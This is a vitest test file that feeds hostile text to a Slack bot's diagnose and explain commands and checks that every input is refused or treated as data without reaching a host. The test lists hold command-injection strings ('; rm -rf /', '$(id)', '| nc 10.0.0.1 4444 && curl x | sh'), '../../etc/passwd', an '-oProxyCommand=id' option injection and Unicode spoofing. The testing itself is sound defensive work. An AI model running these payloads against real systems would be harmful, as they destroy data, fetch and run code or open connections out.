// `/oo diagnose …` and `/oo explain …` with hostile text (shell metacharacters, newlines, RTL overrides,
// zero-width characters, emoji, Slack mentions, 10 KB), signed as Slack signs them, against the real
// service: every answer is a 200 ephemeral reply Slack would accept (validateMessage), says why the
// input was refused, and nothing reaches a host: no diagnosis job is queued (each job is what would
// open an SSH connection), no thread is opened, no request is audited.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPLAIN_SHORTCUT_ID } from '../../src/slack/bolt.js';
import { validateMessage } from '../../src/slack/limits.js';
import { ALICE, CHANNEL, postSlack, slashCommand, waitFor, type Harness } from '../e2e/slack/harness.js';
import { jobCounts, startUnreachableService } from './service.js';

let harness: Harness;

beforeAll(async () => {
  harness = await startUnreachableService(['docs-1', 'docs-2'], { postMessageRate: false });
}, 120_000);

afterAll(async () => {
  await harness?.close();
});

const NGINX_REFUSED =
  '2024/05/14 10:21:33 [error] 1234#1234: *56 connect() failed (111: Connection refused) while connecting to upstream, client: 10.0.0.5, server: , request: "GET /healthcheck HTTP/1.1", upstream: "http://127.0.0.1:8000/healthcheck", host: "docs.example.com"';

async function command(text: string) {
  const started = Date.now();
  const answer = await slashCommand(harness, ALICE, text);
  // Generous: only proves the answer does not hang (Slack's own limit is 3 s).
  expect(Date.now() - started).toBeLessThan(10_000);
  expect(answer.status).toBe(200);
  const body = JSON.parse(answer.body) as { response_type: string; text: string; blocks?: unknown[] };
  expect(body.response_type).toBe('ephemeral');
  expect(validateMessage({ channel: CHANNEL, text: body.text, ...(body.blocks ? { blocks: body.blocks } : {}) })).toEqual([]);
  return { ...body, all: `${body.text}\n${JSON.stringify(body.blocks ?? [])}` };
}

async function nothingReachedAHost(): Promise<void> {
  expect((await jobCounts(harness)).diagnosis).toBe(0);
  expect(harness.standin.callsTo('chat.postMessage')).toEqual([]);
  expect(await harness.service.incidents.listOpen()).toEqual([]);
  // An explanation may be audited as asked for; nothing else was requested.
  const requests = await harness.service.audit.list({ limit: 100, kind: 'request' });
  expect(requests.filter((request) => request.action !== 'explain')).toEqual([]);
}

// Each one word after `diagnose`, none a host name: refused as "not a host or group name".
const NOT_A_NAME = [
  'docs-1;id',
  '$(id)',
  '`id`',
  'docs-1|nc',
  'docs-1&&reboot',
  "docs-1'",
  '"docs-1"',
  '../../etc/passwd',
  '-oProxyCommand=id',
  'docs-1\u202Egpj.exe',
  'docs\u200B-1',
  'docs-1\u2060',
  '🔥docs-1',
  'dоcs-1', // Cyrillic о
  '<!channel>',
  '*docs-1*',
  'a'.repeat(10 * 1024),
];

// More than one word (a newline, a space or a tab splits): refused as "takes one host or group name".
// JavaScript counts U+FEFF and U+00A0 as white space: they split words like a space does.
const SEVERAL_WORDS = ['docs-1\uFEFFid', 'docs-1\u00A0$(id)', 'docs-1; rm -rf /', 'docs-1 && reboot', 'docs-1\nid', 'docs-1\r\n$(id)', 'docs-1\t`id`', `docs-1 ${'x '.repeat(5 * 1024)}`];

describe('/oo diagnose with hostile text', () => {
  it('refuses every target that is not a plain name, saying so, and queues nothing', async () => {
    for (const target of NOT_A_NAME) {
      const answer = await command(`diagnose ${target}`);
      expect(answer.all, JSON.stringify(target.slice(0, 40))).toContain('is not a host or group name');
      // What was typed is shown cut short, never 10 KB of it.
      expect(answer.text.length).toBeLessThan(4000);
      // A mention in the input never becomes a live mention in the answer.
      expect(answer.all).not.toContain('<!channel>');
    }
    for (const text of SEVERAL_WORDS) {
      const answer = await command(`diagnose ${text}`);
      expect(answer.all, JSON.stringify(text.slice(0, 40))).toContain('takes one host or group name');
      expect(answer.text.length).toBeLessThan(4000);
    }
    await nothingReachedAHost();
  });

  it('refuses a hostile subcommand and hostile text before the subcommand the same way', async () => {
    for (const text of ['$(id) docs-1', '`reboot`', '; rm -rf /', 'diagnose\u202E docs-1', '\u200Bdiagnose docs-1', 'DIAGNOSE;id docs-1']) {
      const answer = await command(text);
      expect(answer.all, JSON.stringify(text)).toMatch(/unknown subcommand|is not a host or group name|takes one host or group name/);
    }
    await nothingReachedAHost();
  });

  it('a well-formed name that is not in the inventory is named as unknown, with what exists', async () => {
    const answer = await command('diagnose docs-1.example.com');
    expect(answer.all).toContain('Unknown host or group `docs-1.example.com`');
    expect(answer.all).toContain('`docs-1`');
    await nothingReachedAHost();
  });
});

describe('/oo explain with hostile text', () => {
  it('classifies pasted text as data: metacharacters, unicode and 10 KB never run anything', async () => {
    const pasted = [
      `; rm -rf / $(id) \`reboot\` | nc 10.0.0.1 4444 && curl x | sh '"'"' "\\"`,
      `${NGINX_REFUSED} $(touch /tmp/pwned)`,
      '\u202Eevil\u202C \u200B\u200D\uFEFF 🔥💥 <!channel> <@U0BOB> *bold* ```fence```',
      'x'.repeat(10 * 1024),
    ].join('\n');
    const answer = await command(`explain\n${pasted}`);
    expect(answer.all).toContain('`backend_down`');
    // Explanations carry no buttons: nothing can be run from them.
    expect(answer.all).not.toContain('oo_remediate:');
    expect(answer.all).not.toContain('<!channel>');
    await nothingReachedAHost();
  });

  it('answers text with no known cause, however hostile, with the hint of what to paste', async () => {
    for (const text of ['$(id)', '`id`', '; rm -rf /', '\u202E\u200B🔥', '"\'\\', 'y'.repeat(10 * 1024), 'a\nb\r\nc\rd'.repeat(500)]) {
      const answer = await command(`explain ${text}`);
      expect(answer.all, JSON.stringify(text.slice(0, 20))).toMatch(/No known 502 cause|Could not tell what is wrong/);
      expect(answer.all).not.toContain('oo_remediate:');
    }
    await nothingReachedAHost();
  });

  it('refuses text over its limit and empty text, naming why', async () => {
    expect((await command(`explain ${'z'.repeat(45_000)}`)).all).toMatch(/the pasted text is 45000 characters; .*at most 40000/);
    expect((await command('explain \n \u200B'.replace('\u200B', ''))).all).toContain('needs the log lines');
    await nothingReachedAHost();
  });
});

describe('"Explain this 502" on a hostile message', () => {
  it('explains it ephemerally within Slack\'s limits, as data, and runs nothing', async () => {
    const hostile = [`$(reboot) \`id\` ; rm -rf / | sh && echo '"'`, NGINX_REFUSED, '\u202E\u200B🔥 <!here> <@U0BOB>', 'q'.repeat(10 * 1024)].join('\n');
    for (const message of [
      { type: 'message', user: 'U0CAROL', ts: '1700000000.000100', text: hostile },
      { type: 'message', user: 'U0CAROL', ts: '1700000000.000200', text: '', attachments: [{ fallback: hostile }, { text: 'x'.repeat(20_000) }] },
    ]) {
      const before = harness.standin.ephemerals.length;
      const payload = {
        type: 'message_action',
        callback_id: EXPLAIN_SHORTCUT_ID,
        trigger_id: harness.standin.issueTriggerId(),
        message_ts: message.ts,
        response_url: 'http://127.0.0.1:9/unused',
        team: { id: 'T0STANDIN', domain: 'standin' },
        channel: { id: CHANNEL, name: 'ops' },
        user: { id: ALICE, name: 'alice', team_id: 'T0STANDIN' },
        message,
        token: 'unused',
      };
      expect((await postSlack(harness, { payload: JSON.stringify(payload) })).status).toBe(200);
      const reply = await waitFor('the ephemeral explanation', () => harness.standin.ephemerals.slice(before).find((e) => e.user === ALICE), 10_000);
      expect(validateMessage({ channel: CHANNEL, text: reply.text, ...(reply.blocks ? { blocks: reply.blocks } : {}) })).toEqual([]);
      const all = `${reply.text}\n${JSON.stringify(reply.blocks ?? [])}`;
      expect(all).toContain('`backend_down`');
      expect(all).not.toContain('oo_remediate:');
      expect(all).not.toContain('<!here>');
    }
    await nothingReachedAHost();
  });
});
